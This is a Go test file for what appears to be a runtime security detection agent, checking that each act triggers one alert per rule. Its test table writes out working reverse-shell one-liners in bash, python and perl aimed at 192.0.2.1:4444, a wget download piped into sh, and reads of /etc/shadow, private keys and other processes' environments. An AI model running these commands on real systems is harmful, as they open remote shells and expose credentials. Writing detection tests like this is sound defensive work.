package rules

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// listener takes connections on port 4444 of an address that is no loopback, says
// exit to each and waits for its end.
const listener = `
import socket
s = socket.create_server(("192.0.2.1", 4444))
open("ready", "w").close()
while True:
    c, _ = s.accept()
    c.sendall(b"exit\nexit\n")
    c.shutdown(socket.SHUT_WR)
    while c.recv(4096): pass
    c.close()
`

// onceTold are acts that several rules see, and what is told of each.
var onceTold = []struct {
	name, shell string
	told        []string
	further     bool // there is certainly a further step
}{
	{"bash", `bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444; sh -i <&3 >&3 2>&3' || true`, []string{"Shell opened a network connection"}, true},
	{"python", `python3 -c 'import socket,subprocess,os
s=socket.socket(); s.connect(("192.0.2.1",4444))
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh","-i"])' || true`, []string{"Terminal made by a script"}, true},
	{
		"perl", `perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(4444,inet_aton("192.0.2.1"))); open(STDIN,"<&S"); open(STDOUT,">&S"); exec("/bin/sh -i"); # fdopen socket' || true`,
		[]string{"Terminal made by a script"},
		true,
	},
	{"piped", `wget -T 1 -t 1 -qO- http://192.0.2.9/ | sh`, []string{"Download piped into a shell"}, false},
	{"sed", `sed -i s/x/y/ /etc/p`, []string{"Write below /etc"}, true},
	{"secrets", `cat /etc/shadow /etc/gshadow`, []string{"Secret of the system read"}, true},
	{"secrets-apart", `cat /etc/shadow; cat /etc/gshadow`, []string{"Secret of the system read", "Secret of the system read"}, false},
	{
		"secrets-two", `cat /etc/shadow /etc/ssl/private/key`,
		[]string{"Secret of the system read", "Private key or cloud credential read"},
		false,
	},
	{"different", `echo x >/etc/q; cat /etc/shadow; cp /etc/hostname /etc/cron.d/p`, []string{"Write below /etc", "Secret of the system read", "Scheduled job changed"}, false},
	{"backup", `tar -cPf archive /etc`, []string{"Secrets copied by a backup"}, true},
	{
		"root", `d=$(mktemp -d); mkdir $d/bin; cp /bin/busybox $d/bin; chroot $d /bin/busybox true; chroot $d /bin/busybox sh -c '/bin/busybox true'; rm -r $d`,
		[]string{"Program run from a temporary directory"},
		true,
	},
	{"environments", `grep -qaz PATHX /proc/[0-9]*/environ || true`, []string{"Environment of another process read"}, true},
}

// TestOneDetectionPerAct: what several rules see, or one rule several times, is
// told once, and what is different each time.
func TestOneDetectionPerAct(t *testing.T) {
	binary := agentBinary(t)
	w := watchMatching(t, binary, "first")
	dir := t.TempDir()
	host := hostStage(t, dir, buildActor(t, dir), changed...)
	script := func(name, text string) string {
		path := filepath.Join(dir, name)
		require.NoError(t, os.WriteFile(path, []byte("set -e\ncd $HERE\n"+text), 0o600))
		return "run sh " + path
	}
	require.NoError(t, os.WriteFile(filepath.Join(dir, "listen.py"), []byte(listener), 0o600))
	var play strings.Builder
	fmt.Fprintf(&play, "mkdir -p /etc/cron.d /etc/ssl/private; touch /etc/gshadow /etc/p /etc/ssl/private/key\npython3 %s/listen.py & server=$!\nuntil test -e ready; do sleep 0.1; done\n", dir)
	for _, act := range onceTold {
		// A process of its own with the name of the act.
		path := filepath.Join(dir, "act-"+act.name)
		require.NoError(t, os.WriteFile(path, []byte(act.shell+"\n"), 0o600))
		fmt.Fprintf(&play, "ln -s /bin/sh o-%[1]s; cp %[2]s .; ./o-%[1]s act-%[1]s\n", act.name, path)
	}
	play.WriteString("kill $server\n")
	host.perform(t, "acts", script("play", play.String()))
	host.perform(t, "fence", "read /etc/shadow")
	require.Eventually(t, func() bool { return len(w.of("fence")) > 0 }, patience, pollInterval)
	for _, act := range onceTold {
		t.Run(act.name, func(t *testing.T) {
			var told []string
			for _, d := range w.of("o-" + act.name) {
				told = append(told, d.rule)
			}
			require.ElementsMatch(t, act.told, told, "%v", w.of("o-"+act.name))
			if act.further {
				require.NotEmpty(t, w.stepsOf("o-"+act.name))
			}
		})
	}
}
